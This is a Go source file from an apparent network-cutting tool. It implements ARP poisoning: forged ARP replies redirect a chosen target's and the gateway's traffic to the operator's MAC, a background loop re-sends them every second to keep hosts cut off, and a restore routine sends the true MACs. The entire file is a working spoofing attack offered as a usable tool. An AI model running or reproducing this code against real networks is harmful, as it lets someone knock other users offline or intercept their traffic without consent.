// Package arpctl implements the ARP-poisoning state machine: the set of
// currently cut hosts, the single background poisoning loop that keeps them
// cut, and the cut/restore operations that drive it.
package arpctl

import (
	"context"
	"fmt"
	"net"
	"strings"
	"sync"
	"time"

	"github.com/google/gopacket"
	"github.com/google/gopacket/layers"
	"github.com/google/gopacket/pcap"

	"github.com/lanctl/netsnip/internal/apperrors"
	"github.com/lanctl/netsnip/internal/logger"
	"github.com/lanctl/netsnip/internal/metrics"
)

const (
	poisonTick    = 1 * time.Second
	restoreBursts = 3
	restoreDelay  = 100 * time.Millisecond
)

// CutEntry records one actively poisoned target.
type CutEntry struct {
	TargetIP   net.IP
	TargetMAC  net.HardwareAddr
	GatewayIP  net.IP
	GatewayMAC net.HardwareAddr
	Active     bool
	CutAt      time.Time
}

// FrameSender abstracts the raw send path so tests can substitute a
// hermetic stub that records transmitted frames instead of opening pcap.
type FrameSender interface {
	SendFrame(frame []byte) error
	Close()
}

// pcapSender sends frames over a live pcap handle opened on demand.
type pcapSender struct {
	handle *pcap.Handle
}

func openPcapSender(ifName string) (FrameSender, error) {
	handle, err := pcap.OpenLive(ifName, 65536, false, pcap.BlockForever)
	if err != nil {
		return nil, err
	}
	return &pcapSender{handle: handle}, nil
}

func (p *pcapSender) SendFrame(frame []byte) error {
	return p.handle.WritePacketData(frame)
}

func (p *pcapSender) Close() {
	if p.handle != nil {
		p.handle.Close()
	}
}

// SenderFactory opens a fresh FrameSender for a send burst. Exposed as a
// field (not a constant dependency) so tests can inject a stub.
type SenderFactory func(ifName string) (FrameSender, error)

// Controller owns the CutEntry map and the single poisoning-loop lifecycle.
type Controller struct {
	ifName    string
	localMAC  net.HardwareAddr
	localIP   net.IP
	newSender SenderFactory
	logger    *logger.Logger

	mu         sync.Mutex
	cuts       map[string]*CutEntry // keyed by target IP string
	gatewayIP  net.IP
	gatewayMAC net.HardwareAddr
	loopCancel context.CancelFunc
	loopDone   chan struct{}
}

// New creates a Controller bound to ifName, operating as localMAC/localIP.
func New(ifName string, localMAC net.HardwareAddr, localIP net.IP) *Controller {
	return &Controller{
		ifName:    ifName,
		localMAC:  localMAC,
		localIP:   localIP,
		newSender: openPcapSender,
		logger:    logger.NewComponentLogger("arpctl"),
		cuts:      make(map[string]*CutEntry),
	}
}

// SetGateway idempotently records the gateway IP/MAC. Fails BadMac if
// macStr is not six colon-separated hex octets.
func (c *Controller) SetGateway(ip net.IP, macStr string) error {
	mac, err := net.ParseMAC(macStr)
	if err != nil || len(mac) != 6 || strings.Count(macStr, ":") != 5 {
		return apperrors.Wrap(apperrors.BadMac, "set_gateway", fmt.Errorf("invalid MAC %q", macStr))
	}

	c.mu.Lock()
	c.gatewayIP = ip
	c.gatewayMAC = mac
	c.mu.Unlock()
	return nil
}

// Cut begins poisoning targetIP/targetMAC against the configured gateway.
func (c *Controller) Cut(targetIP net.IP, targetMACStr string) error {
	targetMAC, err := net.ParseMAC(targetMACStr)
	if err != nil || len(targetMAC) != 6 {
		metrics.CutOperations.WithLabelValues("cut", "error").Inc()
		return apperrors.Wrap(apperrors.BadMac, "cut", fmt.Errorf("invalid MAC %q", targetMACStr))
	}

	if targetIP.Equal(c.localIP) {
		metrics.CutOperations.WithLabelValues("cut", "error").Inc()
		return apperrors.New(apperrors.SelfCut, "cut", "cannot cut the local interface")
	}

	c.mu.Lock()
	gatewayIP, gatewayMAC := c.gatewayIP, c.gatewayMAC
	if gatewayIP == nil || gatewayMAC == nil {
		c.mu.Unlock()
		metrics.CutOperations.WithLabelValues("cut", "error").Inc()
		return apperrors.New(apperrors.GatewayNotSet, "cut", "gateway not configured")
	}
	if targetIP.Equal(gatewayIP) {
		c.mu.Unlock()
		metrics.CutOperations.WithLabelValues("cut", "error").Inc()
		return apperrors.New(apperrors.GatewayCut, "cut", "cannot cut the gateway")
	}

	entry := &CutEntry{
		TargetIP:   targetIP,
		TargetMAC:  targetMAC,
		GatewayIP:  gatewayIP,
		GatewayMAC: gatewayMAC,
		Active:     true,
		CutAt:      time.Now(),
	}
	c.cuts[targetIP.String()] = entry
	c.mu.Unlock()

	if err := c.sendPoisonPair(entry); err != nil {
		c.logger.Warn("initial poison send failed for %s: %v", targetIP, err)
	}

	c.ensureLoopRunning()
	metrics.CutOperations.WithLabelValues("cut", "ok").Inc()
	metrics.DevicesCut.Set(float64(len(c.ActiveCuts())))
	return nil
}

// Restore removes targetIP's cut (if any) and sends corrective bursts to
// both the victim and the gateway. Restoring an unknown address is a no-op.
func (c *Controller) Restore(targetIP net.IP) error {
	c.mu.Lock()
	entry, ok := c.cuts[targetIP.String()]
	if !ok {
		c.mu.Unlock()
		return nil
	}
	delete(c.cuts, targetIP.String())
	remaining := len(c.cuts)
	c.mu.Unlock()

	var sendErrs []error
	for i := 0; i < restoreBursts; i++ {
		if err := c.sendRestorePair(entry); err != nil {
			sendErrs = append(sendErrs, err)
		}
		if i < restoreBursts-1 {
			time.Sleep(restoreDelay)
		}
	}
	if len(sendErrs) > 0 {
		c.logger.Warn("restore for %s had %d/%d failed bursts: %v", targetIP, len(sendErrs), restoreBursts, sendErrs[0])
	}

	if remaining == 0 {
		c.stopLoop()
	}

	metrics.CutOperations.WithLabelValues("restore", "ok").Inc()
	metrics.DevicesCut.Set(float64(remaining))
	return nil
}

// IsCut reports whether ip currently has an active CutEntry.
func (c *Controller) IsCut(ip net.IP) bool {
	c.mu.Lock()
	defer c.mu.Unlock()
	_, ok := c.cuts[ip.String()]
	return ok
}

// ActiveCuts returns a snapshot copy of all active CutEntry values.
func (c *Controller) ActiveCuts() []CutEntry {
	c.mu.Lock()
	defer c.mu.Unlock()
	out := make([]CutEntry, 0, len(c.cuts))
	for _, e := range c.cuts {
		out = append(out, *e)
	}
	return out
}

// ensureLoopRunning starts the single background poisoning loop if it is
// not already running. Safe to call repeatedly.
func (c *Controller) ensureLoopRunning() {
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.loopCancel != nil {
		return
	}

	ctx, cancel := context.WithCancel(context.Background())
	c.loopCancel = cancel
	c.loopDone = make(chan struct{})
	go c.poisonLoop(ctx, c.loopDone)
}

func (c *Controller) stopLoop() {
	c.mu.Lock()
	cancel := c.loopCancel
	done := c.loopDone
	c.loopCancel = nil
	c.loopDone = nil
	c.mu.Unlock()

	if cancel != nil {
		cancel()
	}
	if done != nil {
		<-done
	}
}

func (c *Controller) poisonLoop(ctx context.Context, done chan struct{}) {
	defer close(done)
	ticker := time.NewTicker(poisonTick)
	defer ticker.Stop()

	for {
		select {
		case <-ctx.Done():
			return
		case <-ticker.C:
			for _, entry := range c.ActiveCuts() {
				if err := c.sendPoisonPair(&entry); err != nil {
					c.logger.Warn("poison retransmit failed for %s: %v", entry.TargetIP, err)
				}
			}
		}
	}
}

// sendPoisonPair sends the two poison frames that convince target and
// gateway each other is at our MAC.
func (c *Controller) sendPoisonPair(e *CutEntry) error {
	toTarget := buildARPReply(c.localMAC, e.TargetMAC, c.localMAC, e.GatewayIP, e.TargetMAC, e.TargetIP)
	toGateway := buildARPReply(c.localMAC, e.GatewayMAC, c.localMAC, e.TargetIP, e.GatewayMAC, e.GatewayIP)
	return c.sendBoth(toTarget, toGateway)
}

// sendRestorePair sends the two corrective frames carrying the true MACs.
func (c *Controller) sendRestorePair(e *CutEntry) error {
	toTarget := buildARPReply(c.localMAC, e.TargetMAC, e.GatewayMAC, e.GatewayIP, e.TargetMAC, e.TargetIP)
	toGateway := buildARPReply(c.localMAC, e.GatewayMAC, e.TargetMAC, e.TargetIP, e.GatewayMAC, e.GatewayIP)
	return c.sendBoth(toTarget, toGateway)
}

func (c *Controller) sendBoth(frameA, frameB []byte) error {
	sender, err := c.newSender(c.ifName)
	if err != nil {
		return apperrors.Wrap(apperrors.SendFailed, "send", err)
	}
	defer sender.Close()

	var firstErr error
	if err := sender.SendFrame(frameA); err != nil {
		firstErr = err
	}
	if err := sender.SendFrame(frameB); err != nil && firstErr == nil {
		firstErr = err
	}
	if firstErr != nil {
		metrics.ARPFramesSent.WithLabelValues("error").Inc()
		return apperrors.Wrap(apperrors.SendFailed, "send", firstErr)
	}
	metrics.ARPFramesSent.WithLabelValues("poison_or_restore").Inc()
	return nil
}

// buildARPReply builds a 42-byte Ethernet+ARP reply frame: ethSrc/ethDst for
// the Ethernet header, and senderMAC/senderIP/targetMAC/targetIP for the ARP
// body (the "lie" being told is entirely in senderMAC/senderIP).
func buildARPReply(ethSrc, ethDst, senderMAC net.HardwareAddr, senderIP net.IP, targetMAC net.HardwareAddr, targetIP net.IP) []byte {
	eth := &layers.Ethernet{
		SrcMAC:       ethSrc,
		DstMAC:       ethDst,
		EthernetType: layers.EthernetTypeARP,
	}
	arp := &layers.ARP{
		AddrType:          layers.LinkTypeEthernet,
		Protocol:          layers.EthernetTypeIPv4,
		HwAddressSize:     6,
		ProtAddressSize:   4,
		Operation:         layers.ARPReply,
		SourceHwAddress:   senderMAC,
		SourceProtAddress: senderIP.To4(),
		DstHwAddress:      targetMAC,
		DstProtAddress:    targetIP.To4(),
	}

	buf := gopacket.NewSerializeBuffer()
	opts := gopacket.SerializeOptions{FixLengths: true}
	_ = gopacket.SerializeLayers(buf, opts, eth, arp)
	// The Ethernet layer pads short frames to 60 bytes; trim back to the
	// 14-byte header plus the 28-byte ARP body.
	frame := buf.Bytes()
	if len(frame) > 42 {
		frame = frame[:42]
	}
	return frame
}
